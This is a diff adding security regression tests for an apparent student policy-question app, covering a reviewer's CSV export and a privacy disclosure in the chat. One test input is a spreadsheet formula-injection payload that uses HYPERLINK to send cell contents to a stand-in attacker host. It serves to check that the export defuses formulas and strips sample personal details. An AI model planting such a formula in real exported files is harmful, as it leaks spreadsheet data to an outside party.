@@ -7,6 +7,8 @@ Each test names the finding it pins (f1 … f12). The findings that need the app
 from __future__ import annotations
 
 import concurrent.futures
+import csv
+import io
 import json
 import re
 import threading
@@ -240,6 +242,41 @@ def test_f6_simultaneous_wrong_passwords_get_no_more_checks_than_the_limit(app):
     checked = sum("Wrong username or password" in a for a in answers)
     assert checked <= 5, checked  # before: all 24 were checked against a limit of 5
     assert sum("Too many failed attempts" in a for a in answers) == 24 - checked
+
+
+# -- f7, f8. what a reviewer's Insights export holds of other users' questions ---------------------
+
+def test_f7_f8_the_gaps_export_holds_no_formula_and_no_obvious_personal_data(app):
+    base, _ = app
+    asked = ['=HYPERLINK("https://evil.example/?"&A1,"fee") where can students park their cars?',
+             "My name is Priya Sharma, mail priya.sharma@example.edu: is there a parking permit for student cars?",
+             "I am CS21B1034, call +91 98765 43210: can students park cars overnight?"]
+    with httpx.Client(timeout=120) as student:
+        login(student, base, "student")
+        for question in asked:
+            assert call(student, base, "ask", question, "")[0] == "complete"
+    with httpx.Client(timeout=120) as reviewer:
+        login(reviewer, base, "reviewer")
+        event, data = call(reviewer, base, "insights_gaps_csv")
+        assert event == "complete", data
+        exported = reviewer.get(data[1]["url"]).text
+        _, table = call(reviewer, base, "insights_refresh")
+    shown = exported + json.dumps(table)
+    assert "park" in exported
+    questions = [row["question"] for row in csv.DictReader(io.StringIO(exported))]
+    assert questions and [q for q in questions if q.lstrip().startswith(("=", "+", "-", "@"))] == []
+    for personal in ("Priya", "priya.sharma@", "CS21B1034", "98765"):
+        assert personal not in shown, personal
+
+
+# -- f8. users are told their unanswered questions are read ----------------------------------------
+
+def test_f8_the_chat_says_that_questions_are_read_to_improve_the_policies(app):
+    base, _ = app
+    with httpx.Client(timeout=60) as client:
+        login(client, base, "student")
+        page = json.dumps(client.get(base + "/config").json())
+    assert "Questions the policies cannot answer are read, without your name" in page
 
 
 # -- in Spaces mode: f4 forwarded addresses, f10 framing -------------------------------------------
